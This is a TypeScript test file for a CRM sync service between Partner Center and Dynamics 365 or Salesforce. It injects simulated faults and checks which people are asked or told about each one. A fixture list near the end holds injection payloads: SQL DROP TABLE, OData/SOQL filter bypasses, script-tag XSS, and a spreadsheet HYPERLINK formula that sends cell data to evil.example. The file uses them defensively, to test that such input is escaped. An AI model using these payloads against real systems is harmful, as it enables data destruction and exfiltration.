import { afterAll, afterEach, beforeAll, describe, expect, it, vi } from 'vitest';
import { systemTimers, type Timers } from '../../../src/partner-center/timers.ts';
import { type CrmFaultSpec, crmRequestFaults } from '../../../src/sandbox/crm/crm-fault.ts';
import { numberedId } from '../../../src/sandbox/crm/salesforce/ids.ts';
import { aDynamics } from '../../crm/a-dynamics.ts';
import { aSalesforce } from '../../crm/a-salesforce.ts';
import { patiently } from '../../support/patiently.ts';
import { type SimulatedDeal, SimulatedDesk, type SimulatedStage } from './support/simulated-desk.ts';

const usd = (value: number) => ({ value, currency: 'USD' });

/**
 * What odd CRMs do to one deal, in both of them, from the request to the card: what passes by itself asks nobody, what a person
 * has to mend asks once, what an operator has to mend is told to the operator.
 */
describe.each([
  ['dynamics', aDynamics],
  ['salesforce', aSalesforce],
] as const)('a deal in an odd %s', (system, stageOf) => {
  let stage: SimulatedStage;
  beforeAll(async () => {
    stage = await stageOf();
  });
  afterAll(() => stage.sandbox.close());
  afterEach(() => {
    vi.restoreAllMocks();
    side().faults.clear();
  });

  const side = () => stage.sandbox[system];
  const fault = (spec: CrmFaultSpec) => side().faults.add(spec);
  const columns = system === 'dynamics' ? dynamicsColumns : salesforceColumns;
  const requests = () => side().requests;
  const writesOf = (...targets: readonly string[]) =>
    requests().filter(
      ({ method, target }) => method !== 'GET' && targets.some((each) => decodeURIComponent(target).includes(each)),
    );
  const opportunityWrites = () =>
    system === 'dynamics' ? writesOf('/opportunities(') : writesOf('/sobjects/Opportunity', '/composite');
  /** Of a refused sign-in by the poll, which meets it as well (`flows/crm.test.ts`). */
  const operatorHears = (desk: SimulatedDesk) => {
    const signIn = desk.signInState();
    return new Set([...desk.told, ...(signIn.kind === 'down' ? [signIn.code] : [])]);
  };
  const linked = async (deal?: SimulatedDeal) => {
    const desk = await new SimulatedDesk(stage, system, deal).begin();
    await desk.settles();
    expect(desk.link).toMatchObject({ state: 'linked' });
    return desk;
  };

  it('gets over what passes by itself without troubling anybody', async () => {
    const desk = await linked();
    let value = 500;
    for (const spec of passing) {
      fault(spec);
      value += 1;
      desk.memory.edit({ dealValue: usd(value) });
      await desk.settles(6);
      expect((await desk.record()).values.dealValue, spec.kind).toEqual(usd(value));
      expect(desk.asked(), spec.kind).toEqual([]);
      expect(desk.line(), spec.kind).toContain('up to date');
      side().faults.clear();
    }
    expect(desk.told).toEqual([]);
  });

  /**
   * Each switch of the simulators, from the request to whoever hears of it: nobody, the owner by exactly one question on their card, or
   * the operator by exactly one kind of word. When it is over, the change has arrived and nobody is asked any more.
   */
  it.each(switchesOf(system))('$kind ($on) is heard of by: $heard', async (played) => {
    const { kind, on, heard, beside } = played;
    const { orgId } = await stage.crm.describe();
    const { timers, pass } = heldDeadlines();
    const { faults } = side();
    const strike = faults.strike.bind(faults);
    // What is slow is slower than the client waits: its time is over when that request is struck, and no other one's is.
    vi.spyOn(faults, 'strike').mockImplementation((...of) => {
      const struck = strike(...of);
      if (struck?.kind === 'slow') pass();
      return struck;
    });
    const deal = { orgId, ...(kind === 'slow' ? { timers } : {}) };
    const desk = on === 'create' ? await new SimulatedDesk(stage, system, deal).begin() : await linked(deal);
    const struck = side().faults.struck(kind);
    if (beside) fault(beside);
    fault(faultOf(played, system));
    stage.clock.advance(660_000);
    desk.memory.edit({ dealValue: usd(4_321) });
    await desk.settles(3);
    if (isOfRequests(kind)) expect(side().faults.struck(kind)).toBeGreaterThan(struck);
    // What a client did not wait for is done all the same.
    await expect.poll(() => side().load.now, patiently).toBe(0);
    const questions = desk.asked();
    const told = operatorHears(desk);
    expect({ questions: questions.length, told: told.size, of: [...questions, ...told] }).toMatchObject({
      questions: heard === 'owner' ? 1 : 0,
      told: heard === 'operator' ? 1 : 0,
    });
    // Looked at again, it is no second question and no other word.
    await desk.settles(3);
    expect([desk.asked().length, operatorHears(desk).size]).toEqual([questions.length, told.size]);
    side().faults.clear();
    stage.clock.advance(1_900_000);
    desk.memory.clock.advance(1_900_000);
    await desk.settles(6);
    expect(desk.asked()).toEqual([]);
    expect((await desk.record()).values.dealValue).toEqual(usd(4_321));
    expect(
      side()
        .rows.all(columns.table)
        .filter(({ cells }) => cells[columns.key] === desk.link.id),
    ).toHaveLength(1);
  });

  it('carries those of many that are taken, and asks on the cards of those alone that are not', async () => {
    const desks = await Promise.all(Array.from({ length: 6 }, () => linked()));
    const refused = desks.filter((_, index) => index % 2 === 0);
    for (const { link } of refused) fault({ kind: 'partialFailure', pathContains: link.recordId ?? '' });
    for (const [index, desk] of desks.entries()) desk.memory.edit({ dealValue: usd(900 + index) });
    for (const desk of desks) await desk.settles(3);
    const held = await Promise.all(desks.map(async (desk) => (await desk.record()).values.dealValue?.value));
    expect(held).toEqual([100, 901, 100, 903, 100, 905]);
    expect(desks.map((desk) => desk.asked().length)).toEqual([1, 0, 1, 0, 1, 0]);
    side().faults.clear();
    for (const desk of refused) await desk.settles(3);
    expect(await Promise.all(refused.map(async (desk) => (await desk.record()).values.dealValue))).toEqual(
      [900, 902, 904].map(usd),
    );
    expect(desks.flatMap((desk) => desk.asked())).toEqual([]);
  });

  it('asks once, in the rule’s own words, what a rule of the customer’s refuses, and goes on at a press', async () => {
    const desk = await linked();
    fault({ kind: 'refusedByRule' });
    desk.memory.edit({ dealValue: usd(600) });
    await desk.settles(1);
    const before = opportunityWrites().length;
    const asked = desk.asked();
    expect(asked).toHaveLength(1);
    expect(asked[0]).toContain('値が正しくありません。');
    expect(asked[0]).not.toContain('<b>');
    expect(asked[0]?.length).toBeLessThan(400);
    // Looked at again because something else changed: still one.
    await desk.settles(3);
    expect(desk.asked()).toEqual(asked);
    expect(opportunityWrites().length - before).toBeLessThanOrEqual(3);
    side().faults.clear();
    await desk.settles(2);
    expect(desk.asked()).toEqual([]);
    expect((await desk.record()).values.dealValue).toEqual(usd(600));
  });

  it.each(['duplicateRule'] as const)(
    'asks whose customer it is where a duplicate rule finds one (%s)',
    async (kind) => {
      const desk = await new SimulatedDesk(stage, system).begin();
      fault({
        kind,
        status: system === 'dynamics' ? 500 : 400,
        pathContains: system === 'dynamics' ? '/accounts' : 'Account',
      });
      await desk.settles(3);
      expect(desk.asked()).toHaveLength(1);
      expect(desk.link.recordId).toBeUndefined();
      side().faults.clear();
      await desk.settles(2);
      expect(desk.asked()).toEqual([]);
      expect(desk.link.recordId).toBeDefined();
    },
  );

  it('stops where another automation puts its value back each time, and names the field', async () => {
    fault({ kind: 'secondAutomation' });
    const desk = await linked();
    const day = () => desk.memory.referral.record.closesAt?.toISOString().slice(0, 10);
    for (let round = 0; round < 10 && desk.link.state === 'linked'; round++) {
      desk.memory.edit({ closesAt: new Date('2027-05-05T00:00:00Z') });
      await desk.settles(3);
    }
    expect(day()).toMatch(/^20(27-05-05|30-12-31)$/);
    expect(desk.link).toMatchObject({ state: 'paused', pausedBy: 'loop-brake' });
    const flow = system === 'dynamics' ? '# Deal Policy Flow' : 'Deal Policy Flow';
    expect(desk.asked()).toEqual([
      expect.stringMatching(
        RegExp(`Two systems are fighting over Estimated close date[^]*Last changed in Dynamics 365 by \\\\?${flow}, `),
      ),
    ]);
  });

  it('sends no form of the CRM’s to Partner Center where an automation touches each record after a save', async () => {
    fault({ kind: 'rewrites' });
    const table = system === 'dynamics' ? 'systemuser' : 'User';
    const id = system === 'dynamics' ? crypto.randomUUID() : numberedId('User', 90);
    side().rows.add(table, id, { Name: 'Automated Process', UserType: 'AutomatedProcess' }, 'somebody');
    const { fetch: real } = globalThis;
    vi.spyOn(globalThis, 'fetch').mockImplementation(async (input, init) => {
      const answer = await real(input, init);
      if (!answer.ok || !/POST|PATCH/.test(init?.method ?? '')) return answer;
      for (const row of side().rows.all(columns.table)) side().rows.change(row, {}, id);
      return answer;
    });
    const desk = await linked();
    desk.memory.edit({ name: 'Second name', notes: 'Second notes' });
    await desk.settles(6);
    const { name, notes } = desk.memory.referral.record;
    expect({ name, notes }).toEqual({ name: 'Second name', notes: 'Second notes' });
    expect((await desk.record()).values.name).toBe('SECOND NAME');
    expect([desk.asked(), desk.told]).toEqual([[], []]);
  });

  it('takes for no answer of the CRM’s what somebody wrote just after the desk did', async () => {
    const desk = await linked();
    const { fetch: real } = globalThis;
    const typed = usd(4_321);
    let edited = false;
    vi.spyOn(globalThis, 'fetch').mockImplementation(async (input, init) => {
      const answer = await real(input, init);
      if (edited || init?.method !== 'PATCH' || !answer.ok) return answer;
      edited = true;
      await stage.edit(desk.link.recordId ?? '', { dealValue: typed });
      return answer;
    });
    desk.memory.edit({ dealValue: usd(1_234) });
    await desk.settles(6);
    expect(edited).toBe(true);
    // Whoever typed it saw the other value, or not: it reaches Partner Center, or both are asked about.
    const { dealValue } = desk.memory.referral.record;
    const asked = desk.link.questions.dealValue;
    expect([dealValue, asked?.crm]).toContainEqual(typed);
  });

  it('says that a record is gone: deleted, or no more shared; and goes on when it is there again', async () => {
    for (const [away, back] of [
      ['delete', 'restore'],
      ['hide', 'show'],
    ] as const) {
      const desk = await linked();
      const id = desk.link.recordId ?? '';
      side().people.do({ deed: away, id, values: {} });
      desk.memory.edit({ dealValue: usd(700) });
      await desk.settles(3);
      expect(desk.line()).toContain('the record is gone there, or the desk may no longer see it');
      expect(desk.memory.referral.record).toMatchObject({ status: 'Active', externalReferenceId: id });
      side().people.do({ deed: back, id, values: {} });
      await desk.settles(2);
      expect((await desk.record()).values.dealValue).toEqual(usd(700));
    }
  });

  it('asks about a close there, keeps what changes here until it is open again, and says what cannot follow', async () => {
    const desk = await linked();
    const id = desk.link.recordId ?? '';
    side().people.do({ deed: 'win', id, values: {} });
    desk.memory.edit({ dealValue: usd(800) });
    await desk.settles(2);
    expect(desk.asked()).toEqual([expect.stringContaining('Won in ')]);
    side().people.do({ deed: 'reopen', id, values: {} });
    await desk.settles(2);
    expect(desk.asked()).toEqual([]);
    expect((await desk.record()).values.dealValue).toEqual(usd(800));

    desk.memory.edit({ status: 'Closed', substatus: 'Lost', statusReason: 'Customer not interested' });
    await desk.settles(2);
    expect((await desk.record()).outcome.kind).toBe('lost');
    side().people.do({ deed: 'reopen', id, values: {} });
    await desk.settles(2);
    expect(desk.line()).toContain('It was opened again in ');
    expect(desk.memory.referral.record).toMatchObject({ status: 'Closed', substatus: 'Lost' });
  });

  it('leaves a stage alone that nobody mapped, or that is not in the list any more, and carries the rest', async () => {
    const desk = await linked({ record: { salesStage: '40' } });
    // What people call it is not what it is.
    for (const option of stage.sandbox.dynamics.org.table('opportunity').columns.salesstage?.options ?? [])
      Object.assign(option, { label: `${option.label} (neu)` });
    side().people.do({ deed: 'removeStage', id: '', values: { stage: columns.removed } });
    await stage.edit(desk.link.recordId ?? '', { closeDate: '2027-06-06' });
    const row = side().rows.get(columns.table, desk.link.recordId ?? '');
    Object.assign(row?.cells ?? {}, { [columns.stage]: columns.unmapped });
    await desk.settles(2);
    expect(desk.memory.referral.record.salesStage).toBe('40');
    expect(desk.memory.referral.record.closesAt).toEqual(new Date('2027-06-06T00:00:00Z'));
    expect(desk.asked()).toEqual([]);
    expect(new Set(desk.told)).toEqual(new Set(['salesStage: stage-unmapped']));
    // Of that record alone: with a stage that is known, it is carried again.
    await stage.edit(desk.link.recordId ?? '', { salesStage: columns.known });
    await desk.settles(2);
    expect(desk.memory.referral.record.salesStage).toBe('60');
  });

  it('keeps a record without an amount whose currency is not set up, asks once, and writes it when it is', async () => {
    const desk = await linked({ record: { dealValue: { value: 5, currency: 'BHD' } } });
    expect((await desk.record()).values.dealValue).toBeNull();
    expect(desk.asked()).toEqual([expect.stringContaining('doesn’t know this deal’s currency')]);
    await desk.settles(3);
    expect(desk.asked()).toHaveLength(1);
    desk.memory.edit({ dealValue: usd(9) });
    await desk.settles(2);
    expect(desk.asked()).toEqual([]);
    expect((await desk.record()).values.dealValue).toEqual(usd(9));
  });

  it('clears nothing because a column became invisible or masked, nor writes into it', async () => {
    for (const kind of system === 'dynamics'
      ? (['columnSecured', 'columnMasked'] as const)
      : (['columnSecured'] as const)) {
      const desk = await linked();
      fault({ kind, column: columns.notes });
      await stage.edit(desk.link.recordId ?? '', { closeDate: '2027-07-07' });
      await desk.settles(3);
      expect(desk.memory.referral.record).toMatchObject({
        notes: 'first notes',
        closesAt: new Date('2027-07-07T00:00:00Z'),
      });
      expect(desk.asked()).toEqual([]);
      side().faults.clear();
    }
  });

  it('makes a record without what it may not write, and waits where the CRM requires it', async () => {
    const desk = await new SimulatedDesk(stage, system, {
      mapping: { fields: { description: { rule: 'toCrm' } } },
    }).begin();
    fault({ kind: 'columnSecured', column: columns.description });
    await desk.settles(3);
    expect(desk.link.recordId).toBeDefined();
    expect(desk.asked()).toEqual([]);
  });

  it('looks for the account anew that was deleted, or merged into another one', async () => {
    const desk = await new SimulatedDesk(stage, system).begin();
    const dead = await stage.account('Merged away');
    Object.assign(side().rows.get(columns.accounts, dead) ?? {}, { deletedAt: 1 });
    await desk.memory.links.save(desk.link, { ...desk.link, accountId: dead });
    await desk.settles(3);
    expect(desk.link.state).toBe('linked');
    expect((await desk.record()).accountId).not.toBe(dead);
    expect(desk.asked()).toEqual([]);
  });

  it('asks where the account is gone that a person chose, and makes nothing at another one', async () => {
    const desk = await new SimulatedDesk(stage, system).begin();
    const [gone, other] = [await stage.account('Chosen once'), await stage.account('Of a sibling')];
    await desk.memory.links.save(desk.link, { ...desk.link, chosenAccount: gone, accountId: other });
    await stage.removeAccount(gone);
    await desk.settles(3);
    expect(desk.link.recordId).toBeUndefined();
    expect(desk.link.problem).toMatchObject({ code: 'chosen-account-gone' });
    await desk.memory.links.save(desk.link, { ...desk.link, chosenAccount: other });
    await desk.settles(3);
    expect((await desk.record()).accountId).toBe(other);
  });

  it('makes no record at an account that was merged away, and knows the account that a record has by now', async () => {
    const desk = await new SimulatedDesk(stage, system).begin();
    const [loser, master] = [await stage.account('Merged loser'), await stage.account('Its master')];
    await desk.memory.links.save(desk.link, { ...desk.link, accountId: loser });
    await stage.mergeAccount(loser, master);
    await desk.settles(3);
    expect((await desk.record()).accountId).toBe(master);
    expect([desk.link.accountId, desk.asked()]).toEqual([master, []]);
    const last = await stage.account('The last one');
    await stage.mergeAccount(master, last);
    await desk.settles(3);
    expect(desk.link.accountId).toBe(last);
  });

  it('writes nothing into an organisation that took the place of another behind the same address', async () => {
    const { orgId } = await stage.crm.describe();
    const desk = await linked({ orgId });
    fault({ kind: 'orgSwapped' });
    stage.clock.advance(660_000);
    desk.memory.edit({ dealValue: usd(1_000) });
    const before = opportunityWrites().length;
    await desk.settles(3);
    expect(opportunityWrites()).toHaveLength(before);
    expect(new Set(desk.told)).toEqual(new Set(['other-organisation']));
    // Nor is a record gone that the other one does not have.
    side().people.do({ deed: 'hide', id: desk.link.recordId ?? '', values: {} });
    await desk.settles(2);
    expect(desk.link.state).toBe('linked');
    expect(desk.asked()).toEqual([]);
    side().people.do({ deed: 'show', id: desk.link.recordId ?? '', values: {} });
  });

  it('carries nothing to Partner Center that stands in a column which the mapping does not name', async () => {
    const desk = await linked();
    const cells = side().rows.get(columns.table, desk.link.recordId ?? '')?.cells ?? {};
    const { fields, columns: named } = desk.mapping;
    const mapped = [...Object.values(fields), ...Object.values(named).map((column) => ({ column, rule: 'both' }))];
    const carried = mapped.filter(({ rule }) => rule !== 'off').map(({ column }) => column);
    const others = Object.keys(cells).filter((name) => !carried.includes(name) && typeof cells[name] !== 'boolean');
    const texts = others.filter((name) => cells[name] === null || name === columns.description);
    expect(texts).toContain(columns.description);
    for (const name of texts) cells[name] = `confidential ${name}`;
    await stage.edit(desk.link.recordId ?? '', { closeDate: '2027-08-08', notes: 'For Microsoft' });
    await desk.settles(3);
    expect(desk.memory.referral.record).toMatchObject({ notes: 'For Microsoft' });
    expect(JSON.stringify([desk.memory.referral, desk.link])).not.toContain('confidential');
    const asked = requests().map(({ target }) => decodeURIComponent(target));
    expect(asked.filter((target) => /[=, +]description[, +&]/i.test(target))).toEqual([]);
  });

  it('carries hostile texts both ways as the texts that they are', async () => {
    const desk = await linked();
    for (const [index, text] of hostile.entries()) {
      if (index % 2 === 0) desk.memory.edit({ notes: text });
      else await stage.edit(desk.link.recordId ?? '', { notes: text });
      await desk.settles(3);
      expect((await desk.record()).values.notes, text).toBe(text);
      expect(desk.memory.referral.record.notes, text).toBe(text);
    }
    // Nobody else's record was met.
    expect(await stage.crm.find({ referralId: "' or 1 eq 1 or '", recordId: "') or (1 eq 1" })).toEqual([]);
    expect(await stage.crm.searchAccounts({ name: "%' OR Name LIKE '%", address: {} })).toEqual([]);
  });

  it('lives beside Microsoft’s connector: its marks come back nowhere, and nothing goes to and fro', async () => {
    fault({ kind: 'connectorBeside' });
    const desk = await linked({ record: { name: 'Data platform' } });
    expect(side().rows.get(columns.table, desk.link.recordId ?? '')?.cells[columns.name]).toMatch(
      /^[✔✓] Data platform$/,
    );
    desk.memory.edit({ dealValue: usd(1_100) });
    await desk.settles(3);
    expect(desk.memory.referral.record.name).toBe('Data platform');
    const before = opportunityWrites().length;
    await desk.settles(5);
    expect(opportunityWrites()).toHaveLength(before);
    desk.memory.edit({ name: 'Data platform, phase 2' });
    await desk.settles(3);
    expect((await desk.record()).values.name).toMatch(/Data platform, phase 2$/);
    expect(desk.memory.referral.record.name).toBe('Data platform, phase 2');
  });
});

/** docs/crm.md and the control page: F1 to F24, as far as a switch plays them. */
const switchesOf = (system: 'dynamics' | 'salesforce') => switches.filter(({ only = system }) => only === system);
const switches: readonly Switch[] = [
  { kind: 'throttled', on: 'update', heard: 'nobody', count: 1 },
  { kind: 'tokenExpired', on: 'update', heard: 'nobody', count: 1 },
  { kind: 'userMissing', on: 'update', heard: 'operator', only: 'dynamics' },
  // Salesforce looks at the user with the next token.
  {
    kind: 'userMissing',
    on: 'update',
    heard: 'operator',
    only: 'salesforce',
    beside: { kind: 'tokenExpired', count: 1 },
  },
  { kind: 'slow', on: 'update', heard: 'nobody', count: 1, delayMs: 1, methods: ['PATCH'] },
  { kind: 'slow', on: 'create', heard: 'nobody', count: 1, delayMs: 1, methods: ['PATCH'], only: 'dynamics' },
  { kind: 'slow', on: 'create', heard: 'nobody', count: 1, delayMs: 1, methods: ['POST'], only: 'salesforce' },
  { kind: 'partialFailure', on: 'update', heard: 'owner' },
  { kind: 'orgSwapped', on: 'update', heard: 'operator' },
  // Its currency's column is not there: the mapping says otherwise, and no amount is written.
  { kind: 'singleCurrency', on: 'update', heard: 'operator', only: 'salesforce' },
  { kind: 'columnMasked', on: 'update', heard: 'nobody', column: 'notes' },
  { kind: 'rightMissing', on: 'update', heard: 'operator', column: 'opportunities', only: 'dynamics' },
  { kind: 'changedMeanwhile', on: 'update', heard: 'nobody', count: 1 },
  { kind: 'rowLocked', on: 'update', heard: 'nobody', count: 2 },
  { kind: 'duplicateRule', on: 'create', heard: 'owner', path: ['/accounts', 'Account'] },
  { kind: 'keyClash', on: 'create', heard: 'nobody', count: 1 },
  { kind: 'cutBefore', on: 'create', heard: 'nobody', count: 1 },
  { kind: 'cutAfter', on: 'create', heard: 'nobody', count: 1 },
  { kind: 'cutAfter', on: 'update', heard: 'nobody', count: 1 },
  { kind: 'refusedByRule', on: 'update', heard: 'owner' },
  { kind: 'refusedByRule', on: 'create', heard: 'owner' },
  { kind: 'rewrites', on: 'update', heard: 'nobody' },
  // Dataverse reads such a column as empty, Salesforce does not describe it any more.
  { kind: 'columnSecured', on: 'update', heard: 'nobody', column: 'notes', only: 'dynamics' },
  { kind: 'columnSecured', on: 'update', heard: 'operator', column: 'notes', only: 'salesforce' },
  { kind: 'clockAhead', on: 'update', heard: 'nobody' },
  { kind: 'clockBehind', on: 'update', heard: 'nobody' },
  { kind: 'maintenance', on: 'update', heard: 'nobody' },
  { kind: 'quotaEaten', on: 'update', heard: 'nobody', only: 'salesforce' },
  { kind: 'keyPending', on: 'create', heard: 'operator', only: 'dynamics' },
  { kind: 'connectorBeside', on: 'update', heard: 'nobody' },
];

function faultOf(
  { on: _on, heard: _heard, only: _only, beside: _beside, column, path, ...spec }: Switch,
  system: 'dynamics' | 'salesforce',
): CrmFaultSpec {
  const { notes } = system === 'dynamics' ? dynamicsColumns : salesforceColumns;
  return {
    ...spec,
    ...(column ? { column: column === 'notes' ? notes : column } : {}),
    ...(path ? { pathContains: system === 'dynamics' ? path[0] : path[1] } : {}),
  };
}

/** Deadlines that pass when the test says so, for the requests that are under way then. */
function heldDeadlines(): { readonly timers: Timers; readonly pass: () => void } {
  const running = new Set<AbortController>();
  const deadline = () => {
    const controller = new AbortController();
    running.add(controller);
    return { signal: controller.signal, clear: () => void running.delete(controller) };
  };
  const pass = () => {
    for (const controller of running) controller.abort();
  };
  return { timers: { ...systemTimers, deadline }, pass };
}

const isOfRequests = (kind: string) => crmRequestFaults.some((each) => each === kind);

interface Switch extends Pick<CrmFaultSpec, 'kind' | 'count' | 'delayMs' | 'methods'> {
  readonly on: 'create' | 'update';
  readonly heard: 'nobody' | 'owner' | 'operator';
  readonly only?: 'dynamics' | 'salesforce';
  /** `notes`: whatever column the mapping has for them. */
  readonly column?: 'notes' | 'opportunities';
  /** Of the requests that it strikes, in each CRM. */
  readonly path?: readonly [string, string];
  /** Without which it would not be met. */
  readonly beside?: CrmFaultSpec;
}

const passing: readonly CrmFaultSpec[] = [
  { kind: 'throttled', count: 1 },
  { kind: 'tokenExpired', count: 1 },
  { kind: 'changedMeanwhile', count: 1 },
  { kind: 'rowLocked', count: 2 },
  { kind: 'cutBefore', count: 1 },
  { kind: 'cutAfter', count: 1, methods: ['PATCH'] },
  { kind: 'maintenance', count: 2 },
];

const hostile: readonly string[] = [
  "O'Neil & Söhne'); DROP TABLE opportunity;-- 100 %27 %2527",
  '=HYPERLINK("https://evil.example?"&A1,"x")',
  "' or 1 eq 1 or '\\' OR Name != null",
  `<script>alert(1)</script> [press](https://evil.example) \${card.secret} {{notes}}`,
  '한빛소프트 – 株式会社 – ООО «Ромашка» – שלום – \u{1F468}\u{200D}\u{1F469}\u{200D}\u{1F467}',
  `long ${'x'.repeat(1_900)}`,
];

const dynamicsColumns = {
  table: 'opportunity',
  key: 'csd_referralid',
  accounts: 'account',
  name: 'name',
  stage: 'salesstage',
  removed: '1',
  unmapped: 9,
  known: '2',
  notes: 'csd_microsoftnotes',
  description: 'description',
} as const;

const salesforceColumns = {
  table: 'Opportunity',
  key: 'CoSell_Referral_Id__c',
  accounts: 'Account',
  name: 'Name',
  stage: 'StageName',
  removed: 'Perception Analysis',
  unmapped: 'Somewhere else',
  known: 'Proposal/Price Quote',
  notes: 'CoSell_Notes_For_Microsoft__c',
  description: 'Description',
} as const;
